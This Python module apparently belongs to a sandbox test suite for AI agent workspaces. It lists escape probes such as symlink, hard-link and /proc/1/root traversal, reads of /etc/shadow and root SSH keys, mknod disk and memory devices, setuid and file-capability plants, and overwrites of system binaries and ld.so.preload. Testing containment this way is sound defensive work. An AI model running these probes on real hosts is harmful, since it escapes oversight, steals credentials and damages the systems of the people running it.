"""Files: the host's through links and paths, devices, and what the host's own code could be led to."""

import fcntl
import os
import stat
from pathlib import Path
from typing import Final

from workers.attacks.attack import Attack, Design
from workers.attacks.attempt import any_of, openable, read
from workers.attacks.bait import Bait

_WORKSPACE: Final = Path("/workspace")
_SECRETS: Final = ("/etc/shadow", "/etc/ssh/ssh_host_ed25519_key", "/root/.ssh/id_rsa", "/root/.bash_history")


def direct(bait: Bait) -> str:
    """Read a file of the host by its path."""
    return read(bait.file)


def parents(bait: Bait) -> str:
    """Read a file of the host by climbing out of the workspace."""
    return read("../" * 20 + bait.file.lstrip("/"))


def symbolic_link(bait: Bait) -> str:
    """Read a file of the host through a symbolic link in the workspace."""
    return read(_link(bait.file))


def symbolic_link_to_folder(bait: Bait) -> str:
    """List a folder of the host through a symbolic link in the workspace, with its secret's name."""
    return ", ".join(os.listdir(_link(bait.folder)))


def magic_link(bait: Bait) -> str:
    """Read a file of the host through a link to the root of pid 1."""
    return read(_link(f"/proc/1/root{bait.file}"))


def hard_link(bait: Bait) -> str:
    """Make a hard link in the workspace to a file of the host."""
    place = _WORKSPACE / ".hard"
    os.link(bait.file, place)
    return read(place)


def hard_link_to_program(bait: Bait) -> str:
    """Make a hard link to one of the host's programs and write to it."""
    return any_of(_linked_program, ("/usr/bin/env", "/usr/bin/python3", "/bin/sh"))


def moved_folder(bait: Bait) -> str:
    """Hold a folder open, move it, and climb from it."""
    inner = _WORKSPACE / ".a/.b"
    inner.mkdir(parents=True, exist_ok=True)
    here = os.open(inner, os.O_RDONLY)
    inner.rename(_WORKSPACE / f".b-{os.getpid()}")
    os.fchdir(here)
    return read("../" * 20 + bait.file.lstrip("/"))


def known_secrets(bait: Bait) -> str:
    """Read the host's well-known secrets: passwords, keys, histories."""
    return any_of(lambda path: f"{path}: {len(read(path))} bytes", _SECRETS)


def host_folders(bait: Bait) -> str:
    """List the host's folders beside /usr."""
    places = ("/root", "/boot", "/srv", "/mnt", "/opt", "/var/log", "/var/lib", "/home", "/run", "/media", "/sys")
    return any_of(lambda place: _listed(place, bait.shown), places)


def home_of_signet(bait: Bait) -> str:
    """List where the worker keeps the workspaces of all agents."""
    return ", ".join(os.listdir(bait.folder))


def write_programs(bait: Bait) -> str:
    """Write beside the host's programs."""
    return any_of(_made, ("/usr/bin", "/usr/lib", "/usr/local/bin", "/etc", "/etc/ld.so.preload", "/", "/lib", "/dev"))


def overwrite_programs(bait: Bait) -> str:
    """Open one of the host's programs to write to it."""
    return any_of(openable, ("/usr/bin/env", "/bin/sh", "/etc/passwd", "/usr/lib/os-release", "/etc/hosts"))


def own_the_program(bait: Bait) -> str:
    """Give oneself one of the host's programs, or more rights to it."""
    return any_of(_owned, ("/usr/bin/env", "/etc/passwd", "/usr"))


def block_device(bait: Bait) -> str:
    """Make a device of the disk and read it."""
    return any_of(lambda pair: _device(stat.S_IFBLK, *pair), ((254, 0), (8, 0), (259, 0), (7, 0)))


def character_device(bait: Bait) -> str:
    """Make a device of the machine's memory and read it."""
    return any_of(lambda pair: _device(stat.S_IFCHR, *pair), ((1, 1), (1, 11), (10, 232)))


def host_disks(bait: Bait) -> str:
    """Open a disk of the host."""
    paths = ("/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/loop0", "/dev/loop-control", "/dev/mapper/control")
    return any_of(lambda path: openable(path, os.O_RDONLY), paths)


def strange_devices(bait: Bait) -> str:
    """Find a device beside null, zero, full, random, urandom and terminals."""
    known = {
        "null",
        "zero",
        "full",
        "random",
        "urandom",
        "tty",
        "ptmx",
        "pts",
        "shm",
        "fd",
        "stdin",
        "stdout",
        "stderr",
    }
    found = sorted(set(os.listdir("/dev")) - known)
    if not found:
        raise OSError("there is none")
    return f"sees {', '.join(found[:20])}"


def name_for_host(bait: Bait) -> str:
    """Leave links in the workspace for the host's own code to follow when it looks after the workspace."""
    for name, target in (("out", bait.file), ("folder", bait.folder), ("loop", "loop"), ("null", "/dev/zero")):
        place = _WORKSPACE / f".host-{name}"
        place.unlink(missing_ok=True)
        place.symlink_to(target)
    (_WORKSPACE / f"..-{'x' * 200}").touch()
    return "left"


def setuid_for_host(bait: Bait) -> str:
    """Leave a program in the workspace that gives whoever runs it on the host the agent's rights."""
    place = _WORKSPACE / ".setuid"
    place.write_bytes(Path("/usr/bin/env").read_bytes())
    place.chmod(0o6755)
    return f"mode {place.stat().st_mode:o}"


def lock_out(bait: Bait) -> str:
    """Take the worker's own right to the workspace."""
    _WORKSPACE.chmod(0)
    return "mode 0"


def extended_attributes(bait: Bait) -> str:
    """Give a file of one's own capabilities on the host."""
    place = _WORKSPACE / ".capable"
    place.write_bytes(Path("/usr/bin/env").read_bytes())
    mask = bytes.fromhex("0000000200000020000000000000000000000000")
    os.setxattr(place, "security.capability", mask)
    return "set"


def immutable(bait: Bait) -> str:
    """Make a file in the workspace that the host cannot delete."""
    place = _WORKSPACE / ".immutable"
    place.touch()
    with place.open() as file:
        fcntl.ioctl(file, 0x40086602, (0x10).to_bytes(8, "little"))  # FS_IOC_SETFLAGS, immutable
    return "immutable"


def _link(target: str) -> Path:
    place = _WORKSPACE / f".link-{os.getpid()}"
    place.symlink_to(target)
    return place


def _linked_program(path: str) -> str:
    place = _WORKSPACE / f".program-{os.getpid()}"
    os.link(path, place)
    return openable(str(place))


def _listed(path: str, shown: tuple[str, ...]) -> str:
    """List what is in a folder beside the way to what is shown on purpose."""
    found = [name for name in os.listdir(path) if not any(_leads(Path(path, name), Path(place)) for place in shown)]
    if not found:
        raise OSError(f"{path} has nothing")
    return f"{path}: {', '.join(found[:10])}"


def _leads(folder: Path, place: Path) -> bool:
    return place.is_relative_to(folder) or folder.is_relative_to(place)


def _made(folder: str) -> str:
    place = Path(folder) if folder.endswith(".preload") else Path(folder, ".signet-attack")
    os.close(os.open(place, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
    place.unlink()
    return f"made {place}"


def _owned(path: str) -> str:
    try:
        Path(path).chmod(0o777)
    except OSError:
        os.chown(path, os.getuid(), os.getgid())
    return f"owns {path}"


def _device(kind: int, major: int, minor: int) -> str:
    place = f"/workspace/.device-{os.getpid()}"
    os.mknod(place, kind | 0o600, os.makedev(major, minor))
    try:
        fd = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
        return f"read {len(os.read(fd, 1))} bytes"
    finally:
        os.unlink(place)


_FILES: Final = "the host's files"
_PROGRAMS: Final = "what the host and others inside run"

ATTACKS: Final = (
    Attack(direct, _FILES, "secret"),
    Attack(parents, _FILES, "secret"),
    Attack(symbolic_link, _FILES, "secret"),
    Attack(symbolic_link_to_folder, _FILES, "secret"),
    Attack(magic_link, _FILES, "secret"),
    Attack(hard_link, _FILES, "secret"),
    Attack(hard_link_to_program, _PROGRAMS),
    Attack(moved_folder, _FILES, "secret"),
    Attack(known_secrets, "the host's passwords and keys"),
    Attack(host_folders, _FILES),
    Attack(home_of_signet, "the names of other agents", "secret"),
    Attack(write_programs, _PROGRAMS),
    Attack(overwrite_programs, _PROGRAMS),
    Attack(own_the_program, _PROGRAMS),
    Attack(block_device, "every file of the disk"),
    Attack(character_device, "the machine's memory"),
    Attack(host_disks, "every file of the disk"),
    Attack(strange_devices, "a driver to attack"),
    Attack(name_for_host, "a file of the host, by the worker's own hand", "host", alone=True),
    Attack(
        setuid_for_host,
        "the agent's rights on the host, for another user there",
        design=Design(
            "the mode is the agent's to set; inside it gains nothing (nosuid), and the folder of the workspaces is "
            "closed to every other user of the host"
        ),
        alone=True,
    ),
    Attack(lock_out, "a workspace that the worker cannot open again", "host", alone=True),
    Attack(extended_attributes, "capabilities on the host"),
    Attack(immutable, "a workspace that cannot be deleted"),
)
